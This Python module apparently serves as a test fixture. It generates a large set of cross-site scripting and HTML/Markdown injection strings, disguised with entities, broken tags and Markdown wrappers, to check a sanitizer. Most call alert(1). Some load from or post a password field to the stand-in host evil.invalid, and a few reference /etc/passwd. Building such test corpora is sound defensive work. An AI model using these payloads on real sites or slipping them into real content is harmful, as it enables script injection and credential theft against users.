"""Strings that attack: HTML and Markdown that would run something, from the kinds that cheat sheets collect and from our own head.

`every()` gives several hundred: each way of running something, in each coat that Markdown, entities and broken tags lend it. All call
`alert(1)` or go to `//evil.invalid`, so a test sees at once when one has run.
"""

from html import escape

CALL = "alert(1)"
HANDLERS = (
    *("onerror", "onload", "onclick", "onmouseover", "onfocus", "onfocusin", "onblur", "onpointerover", "onanimationstart"),
    *("onanimationend", "ontransitionend", "ontoggle", "onwheel", "onscroll", "onscrollend", "oncopy", "onpaste", "onbeforeinput"),
    *("onauxclick", "oncontextmenu", "ondragstart", "onkeydown", "oninput", "onsubmit", "onbegin", "onloadstart", "oncanplay"),
    *("onpageshow", "onhashchange", "onpopstate", "onmessage", "onunhandledrejection", "onbeforetoggle", "onfullscreenchange"),
)
ELEMENTS = (
    '<img src=x {h}="{c}">',
    "<svg {h}={c}>",
    '<body {h}="{c}">',
    "<details open {h}={c}>",
    '<input autofocus {h}="{c}">',
    '<video {h}="{c}"><source src=x></video>',
    "<a href=# {h}={c}>x</a>",
    '<p {h}="{c}" style="animation:x">x</p>',
)
WHOLE = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.invalid/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x00>alert(1)</script>",
    "<script/x>alert(1)</script\n>",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<svg><script href=//evil.invalid/x.js /></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>x</text></a></svg>",
    "<svg><set attributeName=onmouseover to=alert(1)>",
    '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
    "<svg><foreignObject><iframe onload=alert(1)></iframe></foreignObject></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>",
    '<math href="javascript:alert(1)">x</math>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<title></title><img src=x onerror=alert(1)>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<style><img src=x onerror=alert(1)></style>",
    "<style>@import '//evil.invalid/x.css';</style>",
    "<style>*{background:url(//evil.invalid/x)}</style>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<p style="width:expression(alert(1))">x</p>',
    '<p style="position:fixed;inset:0;background:red">cover</p>',
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<template><img src=x onerror=alert(1)></template>",
    "<template shadowrootmode=open><img src=x onerror=alert(1)></template>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<img src=x onerror=parent.alert(1)>"></iframe>',
    "<iframe src=//evil.invalid></iframe>",
    '<object data="javascript:alert(1)"></object>',
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    '<embed src="javascript:alert(1)">',
    '<applet code="x"></applet>',
    '<form action="javascript:alert(1)"><button>x</button></form>',
    '<form action="//evil.invalid"><input name=password></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    "<isindex action=javascript:alert(1) type=image>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0;url=//evil.invalid">',
    '<base href="javascript:alert(1)//">',
    '<link rel=stylesheet href="//evil.invalid/x.css">',
    '<link rel=import href="//evil.invalid/x.html">',
    '<img src="javascript:alert(1)">',
    '<img src="//evil.invalid/pixel.gif">',
    '<img srcset="//evil.invalid/pixel.gif 1x">',
    '<input type=image src="//evil.invalid/pixel.gif">',
    '<audio src="//evil.invalid/x.mp3" autoplay>',
    '<video poster="//evil.invalid/x.png">',
    '<table background="//evil.invalid/x.png"><td>x</table>',
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<!DOCTYPE html [<!ENTITY x SYSTEM '//evil.invalid/x'>]>&x;",
    "<img src=x onerror=alert(1)//",
    "<img/src/onerror=alert(1)>",
    "<img\tsrc=x\tonerror=alert(1)>",
    "<img\x0csrc=x\x0conerror=alert(1)>",
    "<img src=`x` onerror=alert(1)>",
    "<img src='x'onerror='alert(1)'>",
    '<img src="x" title="a>b" onerror=alert(1)>',
    "<<img src=x onerror=alert(1)>>",
    "</p><img src=x onerror=alert(1)>",
    "<a b='\"></a><img src=x onerror=alert(1)>'>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<dialog open onclose=alert(1)>x</dialog>",
    "<custom-tag onfocus=alert(1) tabindex=1 id=x>x</custom-tag>",
    "<p onclick&#61;alert(1)>x</p>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "&amp;lt;script&amp;gt;alert(1)",
    "\u003cscript\u003ealert(1)\u003c/script\u003e",
    "＜script＞alert(1)＜/script＞",
    "\u202e<script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "' onmouseover='alert(1)",
    '" onmouseover="alert(1)" x="',
    "{{ constructor.constructor('alert(1)')() }}",
    "{% load x %}{{ request }}{% include '/etc/passwd' %}",
    "${alert(1)}#{alert(1)}<%= alert(1) %>",
    "@<img src=x onerror=alert(1)>",
)
ADDRESSES = (
    *("javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)", "java\x00script:alert(1)"),
    *(
        "&#106;avascript:alert(1)",
        "&#x6A;avascript&colon;alert(1)",
        "javascript&#58;alert(1)",
        "javascript&Tab;:alert(1)",
        "%6aavascript:alert(1)",
    ),
    *(
        "\x01javascript:alert(1)",
        " javascript:alert(1)",
        "\u00a0javascript:alert(1)",
        "\u2028javascript:alert(1)",
        "javascript:alert(1)//http://ok",
    ),
    *("javascript://ok.example/%0aalert(1)", "vbscript:msgbox(1)", "livescript:alert(1)", "data:text/html,<script>alert(1)</script>"),
    *(
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "data:image/svg+xml,<svg onload=alert(1)>",
        "blob:https://x/1",
        "file:///etc/passwd",
    ),
    *(
        "filesystem:https://x/",
        "//evil.invalid",
        "/\\evil.invalid",
        "\\\\evil.invalid",
        "http:\\\\evil.invalid",
        "https:evil.invalid",
        "view-source:x",
    ),
    *(
        "feed:javascript:alert(1)",
        "jar:javascript:alert(1)!/",
        "mhtml:javascript:alert(1)",
        "intent:#Intent;S.x=1;end",
        "ms-settings:",
        "tel:1",
    ),
)
COATS = (
    "[x]({a})",
    "[x](<{a}>)",
    '[x]({a} "title")',
    '[x](http://ok.example "x\\" onmouseover=alert(1) y=\\"")',
    "![x]({a})",
    "[x][1]\n\n[1]: {a}",
    "[x]\n\n[x]: <{a}>",
    "<{a}>",
    '<a href="{a}">x</a>',
    "<a href={a}>x</a>",
    "{a}",
    "> - [x]({a})",
    "`[x]({a})` and [y]({a})",
)


def every() -> list[str]:
    """Return all of them, each once, in a fixed order."""
    handlers = [element.format(h=handler, c=CALL) for handler in HANDLERS for element in ELEMENTS]
    links = [coat.replace("{a}", address) for address in ADDRESSES for coat in COATS]
    dressed = [dress(text) for text in WHOLE for dress in (_as_quote, _in_link, _in_code, _in_title, _half_escaped)]
    return list(dict.fromkeys([*WHOLE, *handlers, *links, *dressed]))


def _as_quote(text: str) -> str:
    return f"> **x**\n> {text}\n\n1. {text}"


def _in_link(text: str) -> str:
    return f"[{text}](http://ok.example)"


def _in_code(text: str) -> str:
    return f"```{text}\n{text}\n```\n`{text}`"


def _in_title(text: str) -> str:
    return f'[x](http://ok.example "{text}")'


def _half_escaped(text: str) -> str:
    return escape(text, quote=False) + text
